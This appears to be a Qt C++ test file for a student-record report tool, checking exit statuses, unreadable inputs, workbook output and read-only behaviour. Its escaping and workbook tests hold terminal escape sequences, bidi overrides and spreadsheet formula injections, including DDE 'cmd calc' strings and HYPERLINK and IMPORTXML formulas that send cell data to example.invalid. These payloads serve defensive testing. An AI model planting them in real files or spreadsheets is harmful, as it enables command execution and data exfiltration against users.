            << QStringList{QStringLiteral("--csv"), output(QStringLiteral("twice")),
                           QStringLiteral("--html"), outputs_.path() + QStringLiteral("/./twice"),
                           records_.path()}
            << 2 << QStringLiteral("is named as two outputs");
        QTest::newRow("marks without a roster")
            << QStringList{QStringLiteral("--grades"), output(QStringLiteral("g.csv")),
                           records_.path()}
            << 2 << QStringLiteral("name it with --roster");
        QTest::newRow("marks written over the roster")
            << QStringList{QStringLiteral("--roster"), walks_.first().send,
                           QStringLiteral("--grades"), walks_.first().send, records_.path()}
            << 2 << QStringLiteral("is the roster itself");
        QTest::newRow("marks written over a record file")
            << QStringList{QStringLiteral("--roster"), walks_.first().send,
                           QStringLiteral("--grades"), walks_.first().master, records_.path()}
            << 2 << QStringLiteral("is one of the record files read");
        QTest::newRow("an output over a record file not read")
            << QStringList{QStringLiteral("--csv"), walks_.first().master, walks_.first().send} << 2
            << QStringLiteral("is a record file, which the reader never writes over");
        QTest::newRow("an output read as a record file next time")
            << QStringList{QStringLiteral("--csv"),
                           records_.filePath(QStringLiteral("send_all.csv")), records_.path()}
            << 2 << QStringLiteral("would be read as a record file");
#ifndef Q_OS_WIN // Windows always has one
        QTest::newRow("folder dialog without a display")
            << QStringList{QStringLiteral("--choose-folder")} << 2
            << QStringLiteral("no display was found");
#endif
    }
    void exitStatus()
    {
        QFETCH(QStringList, arguments);
        QFETCH(int, status);
        QFETCH(QString, says);
        QProcessEnvironment noDisplay = QProcessEnvironment::systemEnvironment();
        for (const char *name : {"DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM"})
            noDisplay.remove(QString::fromLatin1(name));
        const Outcome outcome = runReport(arguments, false, noDisplay);
        QVERIFY(!QFileInfo::exists(output(QStringLiteral("twice"))));
        QCOMPARE(outcome.status, status);
        QVERIFY2((outcome.out + outcome.err).contains(says), qPrintable(outcome.out + outcome.err));
    }

    // Every input that cannot be read is listed with the system's reason and makes the exit
    // status 2; the other files are still read, and nothing of the inputs changes.
    void unreadInputs_data()
    {
        QTest::addColumn<QString>("says");
        QTest::newRow("unreadable file") << QStringLiteral("send_0303Ann.txt: problem: cannot "
                                                           "be opened: Permission denied");
        QTest::newRow("name not in the system's encoding")
            << QStringLiteral("send_0303Zo\\xeb.txt: problem: the name is not valid");
        QTest::newRow("dangling link")
            << QStringLiteral("send_0303Ann.txt: problem: a dangling link");
        QTest::newRow("link loop") << QStringLiteral("send_0303Ann.txt: problem: a link loop");
        QTest::newRow("empty file")
            << QStringLiteral("send_0303Ann.txt: problem: the file is empty");
        QTest::newRow("FIFO") << QStringLiteral("send_0303Ann.txt: problem: is a FIFO");
        QTest::newRow("socket") << QStringLiteral("send_0303Ann.txt: problem: is a socket");
        QTest::newRow("/dev/zero") << QStringLiteral("/dev/zero: problem: is a device");
        QTest::newRow("unreadable folder")
            << QStringLiteral("locked: problem: the folder cannot be listed: Permission denied");
        QTest::newRow("link loop named")
            << QStringLiteral("send_0303Ann.txt: problem: a link loop");
        QTest::newRow("folder linked inside itself")
            << QStringLiteral("sub/back: problem: a link loop: the folder leads back to");
        QTest::newRow("folders nested too deep")
            << QStringLiteral("/8/9: problem: more than 8 folders deep in");
    }
    void unreadInputs()
    {
#ifdef Q_OS_WIN
        QSKIP("FIFOs, sockets, devices and names outside the system's encoding are POSIX's");
#else
        QFETCH(QString, says);
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        QVERIFY(QFile::setPermissions(dir.path(), QFile::ReadOwner | QFile::WriteOwner |
                                                      QFile::ExeOwner | QFile::ReadOther |
                                                      QFile::ExeOther));
        const QString good = dir.filePath(QFileInfo(walks_.first().send).fileName());
        QVERIFY(QFile::copy(walks_.first().send, good));
        const QByteArray ann = QFile::encodeName(dir.filePath(QStringLiteral("send_0303Ann.txt")));
        const QString row = QString::fromLatin1(QTest::currentDataTag());
        QStringList inputs{dir.path()};
        if (row == u"unreadable file") {
            QVERIFY(QFile::copy(good, QFile::decodeName(ann)));
            QVERIFY(::chmod(ann, 0600) == 0);
        } else if (row.startsWith(u"name not")) {
            QFile raw;
            QVERIFY(raw.open(::open(QFile::encodeName(dir.path()) + "/send_0303Zo\xeb.txt",
                                    O_WRONLY | O_CREAT, 0644),
                             QIODevice::WriteOnly, QFileDevice::AutoCloseHandle));
            raw.write("x\r\n");
        } else if (row == u"dangling link") {
            QVERIFY(::symlink("send_0303Nobody.txt", ann) == 0);
        } else if (row.startsWith(u"link loop")) {
            QVERIFY(::symlink("send_0303Ann.txt", ann) == 0);
            if (row.endsWith(u"named"))
                inputs = QStringList{good, QFile::decodeName(ann)};
        } else if (row == u"empty file") {
            QVERIFY(QFile(QFile::decodeName(ann)).open(QIODevice::WriteOnly));
        } else if (row == u"FIFO") {
            QVERIFY(::mkfifo(ann, 0644) == 0);
        } else if (row == u"socket") {
            // The socket's file stays when the socket is closed.
            sockaddr_un address{};
            address.sun_family = AF_UNIX;
            QVERIFY(size_t(ann.size()) < sizeof address.sun_path);
            std::memcpy(address.sun_path, ann.constData(), size_t(ann.size()));
            const int socket = ::socket(AF_UNIX, SOCK_STREAM, 0);
            QVERIFY(::bind(socket, reinterpret_cast<sockaddr *>(&address), sizeof address) == 0);
            ::close(socket);
        } else if (row == u"/dev/zero") {
            inputs = QStringList{good, QStringLiteral("/dev/zero")};
        } else if (row == u"folder linked inside itself") {
            QVERIFY(QDir(dir.path()).mkdir(QStringLiteral("sub")));
            QVERIFY(::symlink("..", QFile::encodeName(dir.filePath(QStringLiteral("sub/back")))) ==
                    0);
        } else if (row == u"folders nested too deep") {
            const QString deep = dir.filePath(QStringLiteral("1/2/3/4/5/6/7/8/9"));
            QVERIFY(QDir().mkpath(deep));
            QVERIFY(QFile::copy(good, deep + QStringLiteral("/send_0303Ann.txt")));
        } else if (row == u"unreadable folder") {
            QVERIFY(QDir(dir.path()).mkdir(QStringLiteral("locked")));
            QVERIFY(::chmod(QFile::encodeName(dir.filePath(QStringLiteral("locked"))), 0700) == 0);
            inputs.append(dir.filePath(QStringLiteral("locked")));
        }
        const QMap<QString, FileState> before = stateOf(dir.path());
        const Outcome outcome = runReport(inputs, true);
        QCOMPARE(outcome.status, 2);
        QVERIFY2(outcome.err.contains(says), qPrintable(outcome.err));
        const int problems = int(outcome.err.count(QStringLiteral(": problem: ")));
        QVERIFY2(problems == 1, qPrintable(outcome.err));
        QVERIFY2(outcome.out.contains(QStringLiteral("Sam Student  send")),
                 qPrintable(outcome.out));
        QCOMPARE(stateOf(dir.path()), before);
        if (row.startsWith(u"name not")) // QTemporaryDir cannot name it to remove it
            QVERIFY(::unlink(QFile::encodeName(dir.path()) + "/send_0303Zo\xeb.txt") == 0);
#endif
    }

    // Control characters and bidirectional marks typed by a student (in a response, a rating,
    // a line added by hand and the file's name) reach the terminal escaped, and the CSV
    // exactly: a mark alone as well, in the name's cell of the tables as in a line.
    void nothingRawToTheTerminal_data()
    {
        QTest::addColumn<QString>("payload");
        QTest::addColumn<QByteArray>("escapedName"); // the student's name as the terminal shows it
        QTest::newRow("escapes, then an override")
            << QStringLiteral("\x1b]0;owned\x07\x1b[2J\x1b]52;c;ZWNobyBoaQ==\x07\u202Etxt.exe")
            << QByteArray(
                   "Sam\\x1b]0;owned\\x07\\x1b[2J\\x1b]52;c;ZWNobyBoaQ==\\x07\\u202etxt.exe");
        QTest::newRow("an override alone") << QStringLiteral("\u202E") << QByteArray("Sam\\u202e");
        QTest::newRow("an isolate alone") << QStringLiteral("\u2067") << QByteArray("Sam\\u2067");
        QTest::newRow("a right-to-left mark alone")
            << QStringLiteral("\u200F") << QByteArray("Sam\\u200f");
    }

    void nothingRawToTheTerminal()
    {
#ifdef Q_OS_WIN
        QSKIP("Windows file names cannot hold control characters");
#else
        QFETCH(QString, payload);
        QFETCH(QByteArray, escapedName);
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString path =
            dir.filePath(QStringLiteral("send_0303Sam") + payload + QStringLiteral(".txt"));
        const QString entry = bank::assignmentContent().filter(QStringLiteral("`q001.")).first();
        QString text = records::openingBlock(
            QString(22, QChar(0xFF)), records::assignmentLine(QStringLiteral("001")),
            QStringLiteral("001.  Areas"), QStringLiteral("bexlorin"),
            QStringLiteral("03-03-2026"));
        text += records::responseRecord(records::RecordFile::Send, QStringLiteral("09:05:30"), 0,
                                        {entry, payload}, records::Rating::Confidence, payload);
        text += payload + QStringLiteral("\r\n"); // a line added by hand
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(text.toUtf8()); // as an editor re-saves it: U+202E is no Windows-1252
        file.close();
        const QString csvPath = output(QStringLiteral("terminal.csv"));
        QProcess table;
        table.start(QStringLiteral(BEXLORIN_REPORT), {QStringLiteral("--verbose"), path});
        QVERIFY(table.waitForFinished(120000));
        const QByteArray out = table.readAllStandardOutput();
        const QByteArray terminal = out + table.readAllStandardError();
        // The name's cells: a row of the matrix and a row of the run table.
        QCOMPARE(out.count("\n" + escapedName + ' '), 2);
        QVERIFY2(terminal.contains("fits no record"), terminal);
        for (const char *raw : {"\x1b", "\x07", "\xE2\x80\xAE", "\xE2\x81\xA7", "\xE2\x80\x8F"})
            QVERIFY2(!terminal.contains(raw), terminal);
        QCOMPARE(runReport({QStringLiteral("--csv"), csvPath, path}).status, 1);
        QFile csvFile(csvPath);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        QString error;
        const QList<QStringList> rows = readCsv(csvFile.readAll(), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(rows.size(), 2);
        QCOMPARE(rows[1].at(0), QStringLiteral("Sam") + payload);
        QCOMPARE(rows[1].at(8), payload);
        QCOMPARE(rows[1].at(10), payload);
#endif
    }

    // The workbook, read back by an independent reader (openpyxl from Debian), holds every field
    // of the CSV exactly, as text where a student typed it: formula injections, 001 and Zoë
    // included, and none of its cells is a formula.
    void workbookMatchesTheCsv()
    {
#ifdef Q_OS_WIN
        // libxlsxwriter's own Windows build writes the workbook, by a name beyond ASCII.
        const QString made = output(QStringLiteral("Zoë.xlsx"));
        QCOMPARE(runReport({QStringLiteral("--xlsx"), made, records_.path()}).status, 0);
        QFile written(made);
        QVERIFY(written.open(QIODevice::ReadOnly));
        QCOMPARE(written.read(4), QByteArray("PK\x03\x04"));
        QSKIP("openpyxl reads the workbook back on the Linux side, in the Linux build's test");
#endif
        const QString python = workbookReader();
        if (!report::WorkbookWriter::available() || python.isEmpty())
            QSKIP("no libxlsxwriter in this build, or no python3 to read the workbook back");
        const QStringList payloads{
            QStringLiteral("=1+1"),
            QStringLiteral("+1+1"),
            QStringLiteral("-1+1"),
            QStringLiteral("@SUM(1+1)"),
            QStringLiteral("\t=1+1"),
            QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A1;\"click\")"),
            QStringLiteral("=cmd|' /c calc'!a0"),
            QStringLiteral("=2+5+cmd|' /C calc'!A0"),
            QStringLiteral("-2+3+cmd|' /C calc'!A0"),
            QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0"),
            QStringLiteral("=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
            QStringLiteral("=IMPORTXML(CONCAT(\"http://example.invalid/?v=\",A1),\"//a\")"),
            QStringLiteral("001"),
            QStringLiteral("Zoë"),
            QStringLiteral("1.5e3")};
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString entry = bank::assignmentContent().filter(QStringLiteral("`q001.")).first();
        for (const QString &name : {QStringLiteral("=1+1"), QStringLiteral("@SUM(1+1)"),
                                    QStringLiteral("001"), QStringLiteral("Zoë")}) {
            QString text = records::openingBlock(
                QString(22, QChar(0xFF)), records::assignmentLine(QStringLiteral("001")),
                QStringLiteral("001.  Areas"), QStringLiteral("bexlorin"),
                QStringLiteral("03-03-2026"));
            for (const QString &payload : payloads) {
                text += records::responseRecord(records::RecordFile::Send,
                                                QStringLiteral("09:05:30"), 0, {entry, payload},
                                                records::Rating::Confidence, payload);
            }
            QFile file(dir.filePath(QStringLiteral("send_0303") + name + QStringLiteral(".txt")));
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write(records::codepage::encode(text).value());
        }
        const QString csvPath = output(QStringLiteral("cells.csv"));
        const QString xlsxPath = output(QStringLiteral("cells.xlsx"));
        const Outcome outcome =
            runReport({QStringLiteral("--csv"), csvPath, QStringLiteral("--xlsx"), xlsxPath,
                       dir.path(), records_.path()});
        QVERIFY2(outcome.status == 1 || outcome.status == 0, qPrintable(outcome.err));
        QFile csvFile(csvPath);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        QString error;
        const QList<QStringList> csv = readCsv(csvFile.readAll(), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));

        QProcess reader;
        reader.start(python, {QFINDTESTDATA("workbookcells.py"), xlsxPath});
        QVERIFY(reader.waitForFinished(120000));
        QVERIFY2(reader.exitCode() == 0, reader.readAllStandardError());
        const QJsonArray workbook = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
        QCOMPARE(workbook.size(), csv.size());
        const QList<int> numbers{4, 5, 9}; // code number, question, rating
        QSet<QString> seen;
        for (qsizetype r = 0; r < csv.size(); ++r) {
            const QJsonArray row = workbook[r].toArray();
            QCOMPARE(row.size(), csv[r].size());
            for (qsizetype c = 0; c < row.size(); ++c) {
                const QString type = row[c].toArray()[0].toString();
                const QString text = row[c].toArray()[1].toString();
                QCOMPARE(text, csv[r][c]);
                const bool number = r > 0 && numbers.contains(int(c));
                QCOMPARE(type,
                         text.isEmpty() || number ? QStringLiteral("n") : QStringLiteral("s"));
                seen.insert(text);
            }
        }
        for (const QString &payload : payloads)
            QVERIFY2(seen.contains(payload), qPrintable(payload));
    }

    // A text longer than a workbook cell holds is cut at 32,767 characters, never inside a
    // character of two (an emoji): the cell holds no "?" or U+FFFD, the remark says so and the
    // CSV holds the text whole.
    void workbookCutsWholeCharacters_data()
    {
        QTest::addColumn<QString>("typed");
        QTest::addColumn<int>("kept"); // UTF-16 units in the cell
        const QString emoji = QStringLiteral("\U0001F600");
        QTest::newRow("a pair across the limit")
            << QString(32766, u'a') + emoji + QStringLiteral("tail") << 32766;
        QTest::newRow("a pair just inside") << QString(32765, u'a') + emoji + emoji << 32767;
        QTest::newRow("exactly the limit") << QString(32765, u'a') + emoji << 32767;
    }

    void workbookCutsWholeCharacters()
    {
        QFETCH(QString, typed);
        QFETCH(int, kept);
        const QString python = workbookReader();
        if (!report::WorkbookWriter::available() || python.isEmpty())
            QSKIP("no libxlsxwriter in this build, or no python3 to read the workbook back");
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString entry = bank::assignmentContent().filter(QStringLiteral("`q001.")).first();
        QFile file(dir.filePath(QStringLiteral("send_0303Sam.txt")));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write( // UTF-8, as an editor re-saves it: Windows-1252 has no emoji
            (records::openingBlock(QString(22, QChar(0xFF)),
                                   records::assignmentLine(QStringLiteral("001")),
                                   QStringLiteral("001.  Areas"), QStringLiteral("bexlorin"),
                                   QStringLiteral("03-03-2026")) +
             records::responseRecord(records::RecordFile::Send, QStringLiteral("09:05:30"), 0,
                                     {entry, typed}, records::Rating::Confidence,
                                     QStringLiteral("2")))
                .toUtf8());
        file.close();
        const QString csvPath = output(QStringLiteral("cut.csv"));
        const QString xlsxPath = output(QStringLiteral("cut.xlsx"));
        const Outcome outcome = runReport(
            {QStringLiteral("--csv"), csvPath, QStringLiteral("--xlsx"), xlsxPath, dir.path()});
        QVERIFY2(outcome.status == 0, qPrintable(outcome.err));
        QFile csvFile(csvPath);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        QString error;
        const QList<QStringList> csv = readCsv(csvFile.readAll(), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QCOMPARE(csv.value(1).value(10), typed);

        QProcess reader;
        reader.start(python, {QFINDTESTDATA("workbookcells.py"), xlsxPath});
        QVERIFY(reader.waitForFinished(120000));
        QVERIFY2(reader.exitCode() == 0, reader.readAllStandardError());
        const QJsonArray row =
            QJsonDocument::fromJson(reader.readAllStandardOutput()).array()[1].toArray();
        const QString cell = row[10].toArray()[1].toString();
        QCOMPARE(cell.size(), kept);
        QCOMPARE(cell, typed.left(kept));
        QVERIFY(!cell.contains(u'?') && !cell.contains(QChar(0xFFFD)));
        const QString remark = row[11].toArray()[1].toString();
        QCOMPARE(remark.contains(QStringLiteral("text cut to 32,767 characters")),
                 kept < typed.size());
        QCOMPARE(row[12].toArray()[1].toString(), QString()); // a question has no notes stamp
    }

    // Two students' files whose code lines are equal but invalid (here: the typed text of a
    // response read as a code line by hand-editing) are two runs, never "the same run twice".
    void invalidCodeLinesAreNoKey()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString entry = bank::assignmentContent().filter(QStringLiteral("`q001.")).first();
        for (const QString &name : {QStringLiteral("Kim_Doe"), QStringLiteral("Sam_Student")}) {
            const QString text =
                records::openingBlock(QStringLiteral("RESPONSE -->  "),
                                      records::assignmentLine(QStringLiteral("001")),
                                      QStringLiteral("001.  Areas"), QStringLiteral("bexlorin"),
                                      QStringLiteral("03-03-2026")) +
                records::responseRecord(records::RecordFile::Send, QStringLiteral("09:05:30"), 0,
                                        {entry, QStringLiteral("12")}, records::Rating::Confidence,
                                        QStringLiteral("2"));
            QFile file(dir.filePath(QStringLiteral("send_0303") + name + QStringLiteral(".txt")));
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write(records::codepage::encode(text).value());
        }
        const Outcome outcome = runReport({dir.path()});
        QCOMPARE(outcome.status, 1);
        QCOMPARE(outcome.err.count(QStringLiteral("code line of this run is not valid")), 2);
        QVERIFY2(!outcome.err.contains(QStringLiteral("the same run")), qPrintable(outcome.err));
    }

    // A file with problems: exit status 1, and the outputs are still written.
    void problemsStillWriteTheOutputs()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString send = QFileInfo(walks_.first().send).fileName();
        QVERIFY(QFile::copy(walks_.first().send, dir.filePath(send)));
        // A copy of the same runs under another student's and day's name.
        const QString copy = QStringLiteral("send_1231Kim_Doe.txt");
        QVERIFY(QFile::copy(walks_.first().send, dir.filePath(copy)));
        const QString csvPath = output(QStringLiteral("problems.csv"));
        const QString htmlPath = output(QStringLiteral("problems.html"));
        const Outcome outcome = runReport(
            {QStringLiteral("--csv"), csvPath, QStringLiteral("--html"), htmlPath, dir.path()});
        QCOMPARE(outcome.status, 1);
        QVERIFY(outcome.err.contains(
            QStringLiteral("the same run (the same code line) appeared before")));
        QVERIFY(outcome.err.contains(QStringLiteral("but the file name says 12-31")));
        QVERIFY(QFileInfo(csvPath).size() > 1000);
        QVERIFY(QFileInfo(htmlPath).size() > 1000);
    }

    // Of each kind of problem in a file the first hundred are listed, on the terminal and on
    // the page, and the rest counted there: a file of a million broken runs costs no more.
    void problemsBeyondAHundredAreCounted_data()
    {
        QTest::addColumn<int>("runs"); // each dated against its file's name, all the same run
        QTest::newRow("a hundred") << 100;
        QTest::newRow("a hundred and one") << 101;
        QTest::newRow("a thousand") << 1000;
    }

    void problemsBeyondAHundredAreCounted()
    {
        QFETCH(int, runs);
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        QFile file(dir.filePath(QStringLiteral("send_1231Sam.txt")));
        QVERIFY(file.open(QIODevice::WriteOnly));
        for (int r = 0; r < runs; ++r)
            file.write(
                records::codepage::encode(
                    records::openingBlock(QString(22, QChar(0xFF)),
                                          records::assignmentLine(QStringLiteral("001")),
                                          QStringLiteral("001.  Areas"), QStringLiteral("bexlorin"),
                                          QStringLiteral("03-03-2026")))
                    .value());
        file.close();
        const QString htmlPath = output(QStringLiteral("counted.html"));
        const Outcome outcome = runReport({QStringLiteral("--html"), htmlPath, dir.path()});
        QCOMPARE(outcome.status, 1);
        QFile page(htmlPath);
        QVERIFY(page.open(QIODevice::ReadOnly));
        const QString html = QString::fromUtf8(page.readAll());
        // A run's opening block is five lines; its date is the fifth. Every run after the first
        // is the same run again.
        const QList<std::tuple<QString, int, int>> kinds{
            {QStringLiteral("but the file name says 12-31"), runs, 5 * 100 + 5},
            {QStringLiteral("the same run (the same code line) appeared"), runs - 1, 5 * 101 + 1}};
        for (const auto &[kind, count, firstUnlisted] : kinds) {
            const QString more = QStringLiteral("%1 more problem(s) of this kind, not listed, the "
                                                "first at line %2: ")
                                     .arg(count - 100)
                                     .arg(firstUnlisted);
            const int lines = qMin(count, 100) + (count > 100 ? 1 : 0);
            QCOMPARE(outcome.err.count(kind), lines);
            QCOMPARE(outcome.err.count(more), count > 100 ? 1 : 0);
            QCOMPARE(html.count(kind), lines);
            QCOMPARE(html.count(more), count > 100 ? 1 : 0);
        }
    }

    // Files are parsed ahead on every core, and students' pages made so: what comes out is
    // what one core gives, byte for byte, with copies, problems and a file too large to be
    // parsed ahead among them.
    void oneCoreOrMany()
    {
#ifdef Q_OS_WIN
        QSKIP("the reader is pinned to one core with Linux's taskset");
#else
        const QString taskset = QStandardPaths::findExecutable(QStringLiteral("taskset"));
        if (QThread::idealThreadCount() < 2 || taskset.isEmpty())
            QSKIP("needs two cores and taskset");
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        generateClass(dir.path());
        for (const QFileInfo &info : QDir(records_.path()).entryInfoList(QDir::Files))
            QVERIFY(QFile::copy(info.filePath(), dir.filePath(info.fileName())));
        QFile sent(walks_.first().send);
        QVERIFY(sent.open(QIODevice::ReadOnly));
        const QByteArray runs = sent.readAll();
        QFile large(dir.filePath(QStringLiteral("send_0320Lou_Large.txt")));
        QVERIFY(large.open(QIODevice::WriteOnly));
        QVERIFY(large.write(runs.repeated(2 * 1024 * 1024 / runs.size() + 1)) > 2 * 1024 * 1024);
        large.close();

        QList<QMap<QString, QByteArray>> outputs;
        for (const bool oneCore : {true, false}) {
            QTemporaryDir out;
            QVERIFY(out.isValid());
            const QStringList arguments{QStringLiteral(BEXLORIN_REPORT),
                                        QStringLiteral("--csv"),
                                        out.filePath(QStringLiteral("r.csv")),
                                        QStringLiteral("--html"),
                                        out.filePath(QStringLiteral("r.html")),
                                        QStringLiteral("--student-pages-above"),
                                        QStringLiteral("2"),
                                        dir.path()};
            QProcess process;
            if (oneCore)
                process.start(taskset,
                              QStringList{QStringLiteral("-c"), QStringLiteral("0")} + arguments);
            else
                process.start(arguments.first(), arguments.mid(1));
            QVERIFY(process.waitForFinished(120000));
            QCOMPARE(process.exitCode(), 1);
            QMap<QString, QByteArray> files{
                {QStringLiteral("out"), process.readAllStandardOutput()},
                {QStringLiteral("err"), process.readAllStandardError()}};
            QDirIterator each(out.path(), QDir::Files, QDirIterator::Subdirectories);
            while (each.hasNext()) {
                QFile file(each.next());
                QVERIFY(file.open(QIODevice::ReadOnly));
                files.insert(QDir(out.path()).relativeFilePath(file.fileName()), file.readAll());
            }
            outputs.append(files);
        }
        QVERIFY(outputs[0].value(QStringLiteral("err")).contains("send_0320Lou_Large.txt"));
        QVERIFY(outputs[0].size() > 10); // the page, the CSV and the folder's pages
        QCOMPARE(outputs[1].keys(), outputs[0].keys());
        for (auto it = outputs[0].constBegin(); it != outputs[0].constEnd(); ++it)
            QVERIFY2(outputs[1].value(it.key()) == it.value(), qPrintable(it.key()));
#endif
    }

    // The report only reads: inputs made read-only keep their bytes, times and permissions,
    // the folder gains no file, and an output naming an input is refused.
    void inputsAreOnlyRead()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        for (const QFileInfo &info : QDir(records_.path()).entryInfoList(QDir::Files)) {
            const QString target = dir.filePath(info.fileName());
            QVERIFY(QFile::copy(info.filePath(), target));
            QVERIFY(QFile::setPermissions(target,
                                          QFile::ReadOwner | QFile::ReadGroup | QFile::ReadOther));
        }
        const QMap<QString, FileState> before = stateOf(dir.path());
        QTest::qSleep(1100); // a write would move the modification time past this second

        const Outcome written =
            runReport({QStringLiteral("--csv"), output(QStringLiteral("ro.csv")),
                       QStringLiteral("--html"), output(QStringLiteral("ro.html")), dir.path()});
        QVERIFY2(written.status == 0, qPrintable(written.err));
        const Outcome table = runReport({dir.path()});
        QCOMPARE(table.status, 0);
        const QString input = dir.filePath(QFileInfo(walks_.first().send).fileName());
        const Outcome onto = runReport({QStringLiteral("--csv"), input, dir.path()});
        QCOMPARE(onto.status, 2);
        QVERIFY(onto.err.contains(QStringLiteral("is one of the record files read")));

        QCOMPARE(stateOf(dir.path()), before);
    }

    // Where the desktop entry writes its page: into an instructor's folder of send files,
    // but never beside a student's own record files.
    void pageOfAChosenFolder()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        QVERIFY(QFile::copy(walks_.first().send, dir.filePath(QStringLiteral("send_0303a.txt"))));
        QCOMPARE(report::reportcommand::htmlPathForFolder(dir.path(), outputs_.path()),
                 dir.filePath(QStringLiteral("bexlorin-report.html")));
        QCOMPARE(report::reportcommand::htmlPathForFolder(records_.path(), outputs_.path()),
                 output(QStringLiteral("bexlorin-report.html")));
    }
};

QTEST_MAIN(TestReportCommand)
#include "tst_reportcommand.moc"
